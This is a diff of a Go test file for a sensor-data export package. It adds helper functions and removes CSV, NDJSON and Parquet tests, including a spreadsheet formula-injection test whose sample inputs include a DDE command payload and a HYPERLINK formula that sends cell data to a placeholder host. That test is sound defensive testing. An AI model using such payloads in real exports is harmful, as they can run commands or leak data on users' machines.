@@ -1,20 +1,12 @@
 package exportfile_test
 
 import (
-	"bufio"
 	"bytes"
-	"encoding/csv"
-	"encoding/json"
 	"errors"
 	"io"
 	"math"
 	"runtime"
-	"strings"
 	"testing"
-	"time"
-
-	"github.com/google/go-cmp/cmp"
-	"github.com/parquet-go/parquet-go"
 
 	"github.com/insighthub/insighthub/lib/exportfile"
 	"github.com/insighthub/insighthub/lib/readings"
@@ -38,6 +30,23 @@ func file(tb testing.TB, format exportfile.Format, blocks ...*readings.Block) []
 	if err != nil {
 		tb.Fatal(err)
 	}
+	write(tb, w, blocks)
+	return out.Bytes()
+}
+
+func csvFile(tb testing.TB, dialect exportfile.Dialect, blocks ...*readings.Block) string {
+	tb.Helper()
+	var out bytes.Buffer
+	w, err := exportfile.NewCSV(&out, dialect)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	write(tb, w, blocks)
+	return out.String()
+}
+
+func write(tb testing.TB, w exportfile.Writer, blocks []*readings.Block) {
+	tb.Helper()
 	for _, b := range blocks {
 		if err := w.Write(b); err != nil {
 			tb.Fatal(err)
@@ -46,91 +55,13 @@ func file(tb testing.TB, format exportfile.Format, blocks ...*readings.Block) []
 	if err := w.Close(); err != nil {
 		tb.Fatal(err)
 	}
-	return out.Bytes()
-}
-
-func TestCSV(t *testing.T) {
-	const want = "device,metric,unit,time,value,quality\r\n" +
-		"press,\"t,\"\"1\"\"\",Cel,2026-11-23T12:00:00Z,0.1,good\r\n" +
-		"press,\"t,\"\"1\"\"\",Cel,2026-11-23T12:00:00.250001Z,-1e+300,uncertain\r\n"
-	if diff := cmp.Diff(want, string(file(t, exportfile.CSV, block("press", `t,"1"`, "Cel", 0.1, -1e300)))); diff != "" {
-		t.Errorf("file differs (-want +got):\n%s", diff)
-	}
-}
-
-// TestCSVFormulas checks that no name is read as a formula by a spreadsheet, or as more
-// than one field.
-func TestCSVFormulas(t *testing.T) {
-	for _, name := range []string{
-		"=1+1", "+1", "-1", "@SUM(A1)", ` =cmd|' /C calc'!A0`, `"=1+1"`, `'=1`, "＝1", "\u00a0=1", `x","=1`,
-		`=HYPERLINK("http://x?"&A1,"y")`, `"`, `""`, ",",
-	} {
-		rows, err := csv.NewReader(bytes.NewReader(file(t, exportfile.CSV, block(name, name, name, 1)))).ReadAll()
-		if err != nil || len(rows) != 2 || len(rows[1]) != 6 {
-			t.Fatalf("%q: %q, %v", name, rows, err)
-		}
-		for _, field := range rows[1][:3] {
-			if strings.TrimPrefix(field, "'") != name && field != name {
-				t.Errorf("name %q: got field %q", name, field)
-			}
-			if first := strings.TrimLeft(field, " \u00a0\""); first != "" && strings.ContainsRune("=+-@＝", []rune(first)[0]) {
-				t.Errorf("name %q: got the formula %q", name, field)
-			}
-		}
-	}
-}
-
-func TestNDJSON(t *testing.T) {
-	raw := file(t, exportfile.NDJSON, block("pr\"ess\u2028", "ü", "Cel", 1.5, math.MaxFloat64), block("b", "m", "", 5e-324))
-	var got []map[string]any
-	for scanner := bufio.NewScanner(bytes.NewReader(raw)); scanner.Scan(); {
-		var row map[string]any
-		if err := json.Unmarshal(scanner.Bytes(), &row); err != nil {
-			t.Fatalf("%s: %v", scanner.Bytes(), err)
-		}
-		got = append(got, row)
-	}
-	want := []map[string]any{
-		{"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00Z", "value": 1.5, "quality": "good"},
-		{
-			"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00.250001Z", "value": math.MaxFloat64,
-			"quality": "uncertain",
-		},
-		{"device": "b", "metric": "m", "unit": "", "time": "2026-11-23T12:00:00Z", "value": 5e-324, "quality": "good"},
-	}
-	if diff := cmp.Diff(want, got); diff != "" {
-		t.Errorf("lines differ (-want +got):\n%s", diff)
-	}
-}
-
-func TestParquet(t *testing.T) {
-	raw := file(t, exportfile.Parquet, block("press", "t", "Cel", 0.1, math.MaxFloat64, -5e-324), block("b", "m", "", 2))
-	type row struct {
-		Device  string    `parquet:"device"`
-		Metric  string    `parquet:"metric"`
-		Unit    string    `parquet:"unit"`
-		Time    time.Time `parquet:"time,timestamp(microsecond)"`
-		Value   float64   `parquet:"value"`
-		Quality string    `parquet:"quality"`
-	}
-	got, err := parquet.Read[row](bytes.NewReader(raw), int64(len(raw)))
-	if err != nil {
-		t.Fatal(err)
-	}
-	at := func(i int64) time.Time { return time.UnixMicro(1795435200_000_000 + i*250_001).UTC() }
-	want := []row{
-		{"press", "t", "Cel", at(0), 0.1, "good"},
-		{"press", "t", "Cel", at(1), math.MaxFloat64, "uncertain"},
-		{"press", "t", "Cel", at(2), -5e-324, "bad"},
-		{"b", "m", "", at(0), 2, "good"},
-	}
-	if diff := cmp.Diff(want, got); diff != "" {
-		t.Errorf("rows differ (-want +got):\n%s", diff)
-	}
 }
 
 func TestUnknownFormat(t *testing.T) {
 	if _, err := exportfile.New(io.Discard, "xls"); !errors.Is(err, telemetry.ErrInvalid) {
+		t.Errorf("got %v, want telemetry.ErrInvalid", err)
+	}
+	if _, err := exportfile.NewCSV(io.Discard, "lotus"); !errors.Is(err, telemetry.ErrInvalid) {
 		t.Errorf("got %v, want telemetry.ErrInvalid", err)
 	}
 }
